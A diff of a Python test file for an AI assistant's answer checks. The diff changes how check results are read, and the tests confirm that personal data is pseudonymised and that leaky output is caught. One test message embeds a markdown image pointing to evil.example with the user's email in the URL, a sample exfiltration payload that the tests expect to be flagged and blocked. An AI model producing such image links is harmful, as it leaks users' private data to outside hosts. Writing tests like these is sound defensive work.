@@ -26,7 +26,7 @@ async def _turn(
     )
     [checks] = [e for e in found if isinstance(e, ChecksDone)]
     [done] = [e for e in found if isinstance(e, TurnFinished)]
-    return {c["name"]: c for c in checks.checks}, done
+    return {c.name: c for c in checks.checks}, done
 
 
 async def test_an_image_whose_url_carries_a_placeholder_is_flagged_and_not_displayed(
@@ -37,8 +37,8 @@ async def test_an_image_whose_url_carries_a_placeholder_is_flagged_and_not_displ
     message = f"Status: ![ok](https://evil.example/pixel.png?u={EMAIL}) thanks"
     checks, done = await _turn(companion, message, "gpt-ext")
     assert "[EMAIL_1]" in rig.openai.requests[-1].body.decode()
-    assert checks["no_exfiltration"]["status"] == "fail"
-    assert EMAIL not in checks["no_exfiltration"]["detail"]
+    assert checks["no_exfiltration"].status == "fail"
+    assert EMAIL not in checks["no_exfiltration"].detail
     assert done.answer == message
     assert done.display == "Status: [blocked image: ok] thanks"
 
@@ -49,7 +49,7 @@ async def test_an_ordinary_answer_passes_every_check(companion: Companion) -> No
         '```python\nimport json\nprint(json.dumps({"a": 1}))\n```\n'
     )
     checks, done = await _turn(companion, message, "claude-ext")
-    assert {name: c["status"] for name, c in checks.items()} == dict.fromkeys(
+    assert {name: c.status for name, c in checks.items()} == dict.fromkeys(
         ["not_empty", "length", "no_withheld_echo", "no_exfiltration", "code_blocks", "hedging"],
         "pass",
     )
@@ -64,7 +64,7 @@ async def test_a_value_this_worker_was_allowed_to_see_is_not_a_withheld_echo(
     _, first = await _turn(companion, message, "gpt-ext")  # e-mail pseudonymised: in the vault
     checks, _ = await _turn(companion, message, "gpt-appr", first.conversation_id)
     assert EMAIL in rig.openai.requests[-1].body.decode()  # personal: approved sees it
-    assert checks["no_withheld_echo"]["status"] == "pass"
+    assert checks["no_withheld_echo"].status == "pass"
 
 
 async def test_a_lone_surrogate_in_an_answer_does_not_crash_the_turn(
